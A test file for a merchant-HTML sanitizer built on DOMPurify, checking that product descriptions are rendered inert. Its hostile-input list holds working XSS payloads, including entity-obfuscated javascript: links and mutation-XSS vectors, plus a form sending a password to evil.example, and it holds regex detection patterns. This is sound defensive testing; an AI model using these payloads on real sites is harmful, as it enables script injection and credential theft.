import { describe, expect, it } from 'vitest';
import { sanitizeMerchantHtml as sanitizeToNodes } from '../../../src/lib/sanitize/merchant-html.ts';

/** The sanitizer's nodes as HTML, to compare (serialized from an inert template: nothing loads there). */
function sanitizeMerchantHtml(html: string, base?: string): string {
  const template = document.createElement('template');
  template.content.append(sanitizeToNodes(html, base) ?? '');
  return template.innerHTML;
}

const ALLOWED_TAGS = new Set([
  'a', 'abbr', 'b', 'blockquote', 'br', 'caption', 'code', 'dd', 'del', 'div', 'dl', 'dt', 'em',
  'figcaption', 'figure', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'ins', 'kbd', 'li',
  'mark', 'ol', 'p', 'pre', 'q', 's', 'small', 'span', 'strong', 'sub', 'sup', 'table', 'tbody',
  'td', 'tfoot', 'th', 'thead', 'time', 'tr', 'u', 'ul',
]);
const SAFE_ATTRIBUTES = new Set([
  'href', 'src', 'alt', 'title', 'width', 'height', 'colspan', 'rowspan', 'scope', 'lang', 'dir',
  'start', 'reversed', 'datetime', 'target', 'rel', 'loading', 'referrerpolicy', 'decoding',
]);

/** Parses `html` the way `{@html}` would (into a body) and returns its elements. */
function elementsOf(html: string): Element[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const fromTemplate = [...template.content.querySelectorAll('*')];
  const fromDocument = [...new DOMParser().parseFromString(html, 'text/html').body.querySelectorAll('*')];
  return [...fromTemplate, ...fromDocument];
}

/** Fails unless `html` holds nothing that can run script, navigate by itself, or load a non-https URL. */
function expectInert(html: string): void {
  for (const element of elementsOf(html)) {
    const tag = element.localName;
    expect(ALLOWED_TAGS.has(tag), `unexpected <${tag}> in ${html}`).toBe(true);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attribute of [...element.attributes]) {
      const name = attribute.name.toLowerCase();
      expect(SAFE_ATTRIBUTES.has(name), `unexpected attribute ${name} on <${tag}> in ${html}`).toBe(true);
      if (name === 'href' || name === 'src') {
        // none of the hostile inputs names a loopback host: plain http is as unwelcome as javascript:
        expect(new URL(attribute.value).protocol).toBe('https:');
      }
    }
    if (tag === 'a') {
      expect(element.getAttribute('target')).toBe('_blank');
      expect(element.getAttribute('rel')).toBe('noopener noreferrer');
    }
  }
  expect(html).not.toMatch(/<\s*(script|style|iframe|object|embed|form|svg|math|base|meta|link)\b/i);
  expect(html).not.toMatch(/\bon[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
  // Stable under a second pass: no mutation-XSS left for the browser's parser to revive.
  expect(sanitizeMerchantHtml(html)).toBe(html);
}

const hostile: Array<[string, string]> = [
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror with a valid src', '<img src="https://cdn.shop.example/a.png" onerror="alert(1)">'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['script', '<p>hi</p><script>alert(document.cookie)</script>'],
  ['a javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['a JaVaScRiPt:', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a with tab-split scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['a with newline-split scheme', '<a href="java\nscript:alert(1)">x</a>'],
  ['a with leading control char', '<a href="&#x01;javascript:alert(1)">x</a>'],
  ['decimal-entity javascript:', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['hex-entity javascript: without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['named-entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['protocol-relative image', '<img src="//evil.example/track.gif">'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe src', '<iframe src="https://evil.example/"></iframe>'],
  ['math mglyph style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['math mglyph style mXSS, closed', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['base href', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['form action', '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed src', '<embed src="javascript:alert(1)">'],
  ['style element', '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'],
  ['style attribute', '<p style="background-image:url(javascript:alert(1))">x</p>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['body onload', '<body onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['a with srcset image', '<img srcset="javascript:alert(1) 1x, https://cdn.shop.example/a.png 2x">'],
  ['srcset whose first address is https and a later one data: or another host', '<img src="https://cdn.shop.example/a.png" srcset="https://cdn.shop.example/a.png 1x, data:image/svg+xml;base64,PHN2Zz4= 2x, https://evil.example/t.gif 3x">'],
  ['a ping to another host', '<a href="https://shop.example/" ping="https://evil.example/track">x</a>'],
  ['a table background image', '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>'],
  ['an image whose address is a CSS url()', '<img src="url(https://evil.example/t.gif)">'],
  ['xlink href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['data and class attributes', '<p class="x" id="login" data-x="1" name="forms" aria-hidden="true">x</p>'],
  ['target override', '<a href="https://shop.example/" target="_self" rel="opener">x</a>'],
  ['uppercase tags', '<IMG SRC="javascript:alert(1)"><SCRIPT>alert(1)</SCRIPT>'],
  ['malformed quotes', '<img """><script>alert(1)</script>">'],
  ['credentials in URL', '<a href="https://shop.example@evil.example/">x</a>'],
  ['a plain http link', '<a href="http://shop.example/care">x</a>'],
  ['a plain http image', '<img src="http://cdn.shop.example/a.png">'],
  ['an upper-case HTTP link', '<a href="HTTP://SHOP.EXAMPLE/">x</a>'],
  ['an http:\\\\ image', '<img src="http:\\\\cdn.shop.example\\a.png">'],
  ['an http link to a host named like loopback', '<a href="http://127.0.0.1.evil.example/">x</a><a href="http://localhost.evil.example/">y</a>'],
];

describe('sanitizeMerchantHtml against hostile input', () => {
  for (const [label, input] of hostile) {
    it(`neutralises ${label}`, () => {
      const output = sanitizeMerchantHtml(input);
      expectInert(output);
    });
  }

  it('removes script content, not only the tag', () => {
    expect(sanitizeMerchantHtml('<p>ok</p><script>alert("pwned")</script>')).toBe('<p>ok</p>');
  });

  it('keeps the text of a javascript: link as plain text, not a link that does nothing', () => {
    const output = sanitizeMerchantHtml('<p>See <a href="javascript:alert(1)">Click</a>.</p>');
    expect(output).toBe('<p>See Click.</p>');
  });

  it('keeps the text of a plain http: link (not loopback) as plain text, and removes a plain http: picture (security case 34)', () => {
    expect(sanitizeMerchantHtml('<p>See <a href="http://shop.example/care">our care guide</a>.</p>')).toBe('<p>See our care guide.</p>');
    expect(sanitizeMerchantHtml('<p>A<img src="http://cdn.shop.example/a.png">B</p>')).toBe('<p>AB</p>');
    expect(sanitizeMerchantHtml('<p>A<img src="HTTP://cdn.shop.example/a.png" alt="The apron">B</p>')).toBe('<p>AThe apronB</p>');
    // relative to a store on plain http: still plain http to that host
    expect(sanitizeMerchantHtml('<a href="/pages/shipping">shipping page</a><img src="pic.png">', 'http://shop.example/p/1')).toBe('shipping page');
  });

  it('keeps a link or picture on a loopback host over plain http (the demo and test stores)', () => {
    const [link, image] = elementsOf(sanitizeMerchantHtml('<a href="http://127.0.0.1:4010/pages/shipping">s</a><img src="pic.png" alt="p">', 'http://localhost:4011/p/1'));
    expect(link?.getAttribute('href')).toBe('http://127.0.0.1:4010/pages/shipping');
    expect(image?.getAttribute('src')).toBe('http://localhost:4011/p/pic.png');
  });

  it('a picture left without an address shows its words (alt) as text in its place, or nothing, not an empty or broken picture', () => {
    expect(sanitizeMerchantHtml('<p>Before <img src="javascript:alert(1)" alt=" The apron, folded "> after</p>')).toBe('<p>Before The apron, folded after</p>');
    expect(sanitizeMerchantHtml('<p>A<img src="data:image/png;base64,AAAA">B<img alt="no address at all"></p>')).toBe('<p>ABno address at all</p>');
    expect(sanitizeMerchantHtml('<img src="https://shop.example/a.png" alt="kept">')).toContain('src="https://shop.example/a.png"');
  });

  it('without a store address, drops relative URLs (they would point into this app) and shows such links as plain text', () => {
    const output = sanitizeMerchantHtml('<p>Read our <a href="/pages/shipping"><em>shipping page</em></a>.</p><img src="pic.png" alt="p">');
    expect(output).not.toContain('/pages/shipping');
    expect(output).not.toContain('pic.png');
    expect(output).toContain('<p>Read our <em>shipping page</em>.</p>');
  });

  it('resolves relative links and images against the store’s address (“shipping page” goes to the store’s page)', () => {
    const base = 'https://shop.example/products/linen-apron';
    const output = sanitizeMerchantHtml('<a href="/pages/shipping">shipping page</a> <a href="sizes">sizes</a> <img src="pic.png" alt="p">', base);
    const [shipping, sizes, image] = elementsOf(output);
    expect(shipping?.getAttribute('href')).toBe('https://shop.example/pages/shipping');
    expect(shipping?.getAttribute('target')).toBe('_blank');
    expect(shipping?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(sizes?.getAttribute('href')).toBe('https://shop.example/products/sizes');
    expect(image?.getAttribute('src')).toBe('https://shop.example/products/pic.png');
  });

  it('a store address never lets through what it would not alone: javascript:, protocol-relative, a non-http base', () => {
    const base = 'https://shop.example/';
    expect(sanitizeMerchantHtml('<a href="javascript:alert(1)">x</a>', base)).toBe('x');
    expect(sanitizeMerchantHtml('<a href="//evil.example/">x</a>', base)).toBe('x');
    expect(sanitizeMerchantHtml('<a href="/p">x</a>', 'javascript:alert(1)//')).toBe('x');
  });

  it('returns an empty string for empty input', () => {
    expect(sanitizeMerchantHtml('')).toBe('');
  });
});

describe('sanitizeMerchantHtml on ordinary merchant HTML', () => {
  const merchant = [
    '<h3>Linen apron</h3>',
    '<p>Made of <strong>heavy</strong> linen, <em>pre-washed</em>.</p>',
    '<ul><li>One size</li><li>Two pockets</li></ul>',
    '<p><a href="https://shop.example/care">Care guide</a></p>',
    '<p><img src="https://cdn.shop.example/apron.jpg" alt="The apron" width="800" height="600"></p>',
  ].join('');

  it('keeps the structure, text and formatting', () => {
    const output = sanitizeMerchantHtml(merchant);
    const template = document.createElement('template');
    template.innerHTML = output;
    const root = template.content;
    expect(root.querySelector('h3')?.textContent).toBe('Linen apron');
    expect(root.querySelector('strong')?.textContent).toBe('heavy');
    expect(root.querySelector('em')?.textContent).toBe('pre-washed');
    expect([...root.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['One size', 'Two pockets']);
    expectInert(output);
  });

  it('opens every link in a new tab without opener or referrer', () => {
    const output = sanitizeMerchantHtml('<a href="https://shop.example/care">Care guide</a>');
    expect(output).toBe('<a href="https://shop.example/care" target="_blank" rel="noopener noreferrer">Care guide</a>');
  });

  it('loads every image lazily, asynchronously and without a referrer, keeping alt and size', () => {
    const output = sanitizeMerchantHtml('<img src="https://cdn.shop.example/apron.jpg" alt="The apron" width="800" height="600">');
    const template = document.createElement('template');
    template.innerHTML = output;
    const img = template.content.querySelector('img')!;
    expect(img.getAttribute('src')).toBe('https://cdn.shop.example/apron.jpg');
    expect(img.getAttribute('alt')).toBe('The apron');
    expect(img.getAttribute('width')).toBe('800');
    expect(img.getAttribute('height')).toBe('600');
    expect(img.getAttribute('loading')).toBe('lazy');
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(img.getAttribute('decoding')).toBe('async');
  });

  it('keeps tables and their spans', () => {
    const output = sanitizeMerchantHtml('<table><thead><tr><th scope="col">Size</th></tr></thead><tbody><tr><td colspan="2">M</td></tr></tbody></table>');
    expect(output).toContain('<th scope="col">Size</th>');
    expect(output).toContain('<td colspan="2">M</td>');
  });

  it('does not leak its hooks into the shared DOMPurify instance', async () => {
    const { default: shared } = await import('dompurify');
    expect(shared.sanitize('<a href="https://shop.example/">x</a>')).toBe('<a href="https://shop.example/">x</a>');
  });
});
